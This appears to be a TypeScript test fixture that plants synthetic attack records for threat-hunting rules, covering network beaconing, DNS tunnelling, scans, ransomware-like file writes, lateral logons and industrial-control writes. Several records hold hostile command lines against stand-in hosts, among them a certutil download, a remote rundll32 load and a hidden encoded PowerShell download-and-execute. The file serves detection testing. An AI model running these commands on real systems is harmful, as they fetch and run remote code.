// Attacks seen on the network, on hosts and in a plant, one for each hunt.
import type { Plant } from './plant.ts';
import { at, times } from './records.ts';
import { conn, dnp3, dns, fileWritten, http, logon, modbus, proc } from './records-network.ts';

const EVIL = '192.0.2.66';
const PC = 'PC-3.example.com';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

export const NETWORK_PLANTS: readonly Plant[] = [
  {
    hunt: 'net_beaconing',
    records: times(60, (i) => conn(at(14, 3, 0, i * 300 + (i % 5)), ['10.0.1.3', EVIL, 443], { orig_bytes: 300 + (i % 3) })),
    first: { src_ip: '10.0.1.3', dst_ip: EVIL, port: 443, connections: 60, hosts: 1 },
  },
  {
    hunt: 'net_port_never_used_before',
    records: times(4, (i) => conn(at(14, 3, i), ['10.0.1.3', EVIL, 4444], { orig_bytes: 5000 })),
    first: { port: 4444, src_ip: '10.0.1.3', dst_ip: EVIL, hosts: 1, connections: 4 },
  },
  {
    hunt: 'net_upload_volume_jump',
    records: times(4, (i) => conn(at(14, 3, i), ['10.0.1.3', EVIL, 443], { orig_bytes: 900_000_000 + i, resp_bytes: 20_000 })),
    first: { src_ip: '10.0.1.3', dst_ip: EVIL, bytes_out: 3_600_000_006, earlier_days: 0 },
  },
  {
    hunt: 'net_dns_tunnel',
    records: times(80, (i) =>
      dns(at(14, 3, 0, i), '10.0.1.3', `${'a1b2c3d4e5f6'.repeat(3)}${i}.t.evil.co.jp`, { qtype_name: 'TXT' }),
    ),
    first: { src_ip: '10.0.1.3', domain: 'evil.co.jp', names: 80, odd_type_ratio: 1, hosts: 1 },
  },
  {
    hunt: 'net_dns_names_that_do_not_exist',
    records: times(40, (i) => dns(at(14, 3, 0, i), '10.0.1.3', `xq${i * 7919}zk.info`, { rcode: 3, rcode_name: 'NXDOMAIN' })),
    first: { src_ip: '10.0.1.3', missing_domains: 40, missing_ratio: 1 },
  },
  {
    hunt: 'net_internal_scan',
    records: times(60, (i) =>
      conn(at(14, 3, 0, i), ['10.0.1.3', `10.0.7.${i + 1}`, 445], {
        conn_state: i % 10 ? 'S0' : 'SF',
        orig_bytes: 0,
        resp_bytes: 0,
      }),
    ),
    first: { src_ip: '10.0.1.3', hosts: 60, ports: 1, targets: 60, refused_ratio: 0.9 },
  },
  {
    hunt: 'net_web_uploads_by_rare_agent',
    records: times(3, (i) =>
      http(at(14, 3, i), ['10.0.1.3', EVIL, 80], {
        method: 'POST',
        host: 'drop.example.net',
        user_agent: 'sync/1.4.2',
        request_body_len: 5_000_000 + i,
      }),
    ),
    first: { family: 'sync/#', src_ip: '10.0.1.3', top_host: 'drop.example.net', uploads: 3, bytes_sent: 15_000_003 },
  },
  {
    hunt: 'host_rare_parent_and_child',
    records: [
      proc(at(14, 3), {
        image: 'C:\\Windows\\System32\\cmd.exe',
        command: 'cmd /c x',
        parent: 'C:\\Program Files\\Manage\\agent.exe',
        host: PC,
      }),
    ],
    first: { parent: 'agent.exe', child: 'cmd.exe', hosts: 1, parent_hosts: 5, child_hosts: 5 },
  },
  {
    hunt: 'host_signed_tool_fetches',
    records: [
      proc(at(14, 3), {
        image: 'C:\\Windows\\System32\\certutil.exe',
        command: 'certutil -urlcache -f http://drop.example.net/x.exe x.exe',
        host: PC,
      }),
    ],
    first: { tool: 'certutil.exe', target: 'drop.example.net', host: 'pc-3.example.com' },
  },
  {
    hunt: 'host_signed_tool_fetches',
    records: [
      proc(at(14, 3), {
        image: 'C:\\Windows\\System32\\rundll32.exe',
        command: 'rundll32 \\\\203.0.113.99\\share\\x.dll,Start',
        host: PC,
      }),
    ],
    first: { tool: 'rundll32.exe', target: '203.0.113.99' },
  },
  {
    hunt: 'host_encoded_powershell',
    records: [
      proc(at(14, 3), {
        image: POWERSHELL,
        command: `powershell -nop -w hidden -enc ${Buffer.from("IEX (iwr 'http://drop.example.net')", 'utf16le').toString('base64')}`,
        parent: 'C:\\Program Files\\Office\\WINWORD.EXE',
        host: PC,
      }),
    ],
    first: {
      host: 'pc-3.example.com',
      parent: 'winword.exe',
      is_encoded: true,
      odd_parent: true,
      decoded: "IEX (iwr 'http://drop.example.net')",
    },
  },
  {
    hunt: 'host_looks_around',
    records: [
      'whoami /all',
      'net user /domain',
      'net group "Domain Admins" /domain',
      'nltest /dclist:',
      'ipconfig /all',
      'systeminfo',
      'tasklist /v',
    ].map((command, i) =>
      proc(at(14, 3, i), {
        image: `C:\\Windows\\System32\\${command.split(' ')[0]}.exe`,
        command,
        parent: 'C:\\Windows\\System32\\cmd.exe',
        host: PC,
      }),
    ),
    first: { host: 'pc-3.example.com', kinds: 7, commands: 7 },
  },
  {
    hunt: 'host_program_from_writable_folder',
    records: [proc(at(14, 3), { image: 'C:\\Users\\Public\\svch0st.exe', host: PC })],
    first: { program: 'svch0st.exe', hosts: 1, host: 'pc-3.example.com' },
  },
  {
    hunt: 'host_files_changed_in_bulk',
    records: [
      ...times(200, (i) =>
        fileWritten(at(14, 3, 1, i % 60), PC, 'C:\\Users\\aoi\\x.exe', `C:\\Users\\aoi\\Documents\\f${i % 20}\\plan-${i}.locked`),
      ),
      fileWritten(at(14, 3, 3), PC, 'C:\\Users\\aoi\\x.exe', 'C:\\Users\\aoi\\Desktop\\HOW_TO_DECRYPT.txt'),
    ],
    first: { host: 'pc-3.example.com', program: 'x.exe', files: 201, folders: 21, notes: 1 },
  },
  {
    hunt: 'host_logons_spread',
    records: times(8, (i) => logon(at(14, 3, i), { host: `SRV-${i}.example.com`, user: 'user3', ip: '10.0.1.4' })),
    first: { who: 'user3', src_ip: '10.0.1.4', new_hosts: 8, usual_hosts: 1, first_host: 'srv-0.example.com' },
  },
  {
    hunt: 'ot_write_from_new_host',
    records: [modbus(at(14, 3), '10.9.0.77', '10.9.1.1', 'WRITE_MULTIPLE_COILS')],
    first: { src_ip: '10.9.0.77', device: '10.9.1.1', protocol: 'modbus', writes: 1, usual_writers: 1, read_before: false },
  },
  {
    hunt: 'ot_write_from_new_host',
    records: [dnp3(at(14, 3), '10.9.0.20', '10.9.1.9', 'OPERATE')],
    first: { src_ip: '10.9.0.20', device: '10.9.1.9', protocol: 'dnp3', functions: ['OPERATE'] },
  },
  {
    hunt: 'ot_devices_searched',
    records: times(12, (i) => modbus(at(14, 3, i), '10.9.0.77', '10.9.1.1', 'READ_DEVICE_IDENTIFICATION', i + 1)),
    first: { src_ip: '10.9.0.77', new_targets: 12, devices: 1, protocols: ['modbus'] },
  },
];
